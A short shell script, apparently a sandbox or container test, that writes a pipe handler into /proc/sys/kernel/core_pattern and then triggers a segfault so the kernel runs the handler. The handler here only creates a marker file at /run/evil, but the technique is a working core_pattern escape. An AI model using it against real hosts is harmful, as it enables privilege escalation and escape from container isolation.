[ -e /proc/self ] || mount -t proc proc /proc
echo "|/bin/touch /run/evil" > /proc/sys/kernel/core_pattern || exit
sh -c 'kill -SEGV $$'
echo there
